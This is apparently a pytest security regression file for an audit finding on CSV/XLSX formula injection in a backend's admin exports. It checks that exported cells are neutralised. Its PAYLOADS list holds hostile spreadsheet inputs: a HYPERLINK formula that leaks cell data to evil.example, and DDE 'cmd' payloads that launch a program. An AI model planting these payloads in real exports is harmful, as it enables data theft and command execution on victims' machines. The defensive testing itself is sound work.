"""Finding 13: exports sent formulas out live.

``=HYPERLINK(...)`` typed into a contact line or an integration record went out as a formula in
the XLSX export and as formula text in the CSV export (``integrations/service.py``), and the
statistics CSV (``stats/service.py``) wrote its cells as they were. Every export now goes through
``backend.lib.exports``: in CSV a cell that starts with ``= + - @``, a tab or a carriage return is
behind an apostrophe; in XLSX it is a text cell (never a formula) with the quote prefix, its value
exactly as typed.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from backend.stats.service import to_csv
from tests.security.support import bearer

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture(scope="module")
async def poisoned(live):
    """Contact lines and an integration record whose text starts like a formula."""
    admin = bearer(live.tokens["admin"])
    ids = []
    for n, payload in enumerate(PAYLOADS):
        answer = await live.client.post(
            "/api/v1/admin/contacts/",
            json={"matter": f"m{n}", "system": "amr", "responsible_unit": payload, "business_contact": payload},
            headers=admin,
        )
        assert answer.status_code == 201, answer.text
        ids.append(answer.json()["id"])
    systems = (await live.client.get("/api/v1/admin/integrations/", headers=admin)).json()
    system = systems[0]["system"]
    answer = await live.client.patch(
        f"/api/v1/admin/integrations/{system}", json={"system_name": PAYLOADS[0], "remarks": PAYLOADS[1]}, headers=admin
    )
    assert answer.status_code == 200, answer.text
    yield admin
    for contact_id in ids:
        await live.client.delete(f"/api/v1/admin/contacts/{contact_id}", headers=admin)


@pytest.mark.parametrize("kind", ["contacts", "integrations"])
async def test_finding13_csv_exports_carry_no_formula(live, poisoned, kind):
    answer = await live.client.get(f"/api/v1/admin/{kind}/export", params={"format": "csv"}, headers=poisoned)
    assert answer.status_code == 200, answer.text
    cells = [cell for row in _csv_rows(answer.content) for cell in row]
    formula_like = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not formula_like, formula_like
    found = {c[1:] for c in cells if c.startswith("'")}
    expected = set(PAYLOADS) if kind == "contacts" else set(PAYLOADS[:2])
    assert expected <= found, found  # the text itself is kept, behind the apostrophe


@pytest.mark.parametrize("kind", ["contacts", "integrations"])
async def test_finding13_xlsx_exports_carry_no_formula(live, poisoned, kind):
    answer = await live.client.get(f"/api/v1/admin/{kind}/export", params={"format": "xlsx"}, headers=poisoned)
    assert answer.status_code == 200, answer.text
    sheet = load_workbook(io.BytesIO(answer.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in the export"
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    expected = PAYLOADS if kind == "contacts" else PAYLOADS[:2]
    for payload in expected:
        assert payload in texts, (payload, list(texts)[:20])  # exactly as typed
        assert texts[payload].data_type == "s" and texts[payload].quotePrefix, payload


def test_finding13_statistics_csv_carries_no_formula():
    figures = {
        "items": {
            "AMR": {
                "name": {"zh-CN": PAYLOADS[0]},
                **dict.fromkeys(
                    [
                        "promised_days",
                        "total",
                        "closed",
                        "median_days",
                        "p90_days",
                        "on_time",
                        "with_deadline",
                        "sla_compliance",
                        "open_overdue",
                    ],
                    -1,
                ),
            }
        },
        "volumes": {
            dim: {p: 1 for p in PAYLOADS}
            for dim in ("by_matter", "by_item", "by_entity_type", "by_region", "by_channel", "by_status")
        },
        "trend": [{"day": PAYLOADS[3], "submitted": 0, "closed": 0}],
    }
    for section in ("items", "volumes", "trend"):
        rows = _csv_rows(to_csv(figures, section).encode())
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], (section, cells)
        # numbers are numbers: a negative figure is not someone's text
        assert not [c for c in cells if c.startswith("-") and c != "-1"], (section, cells)
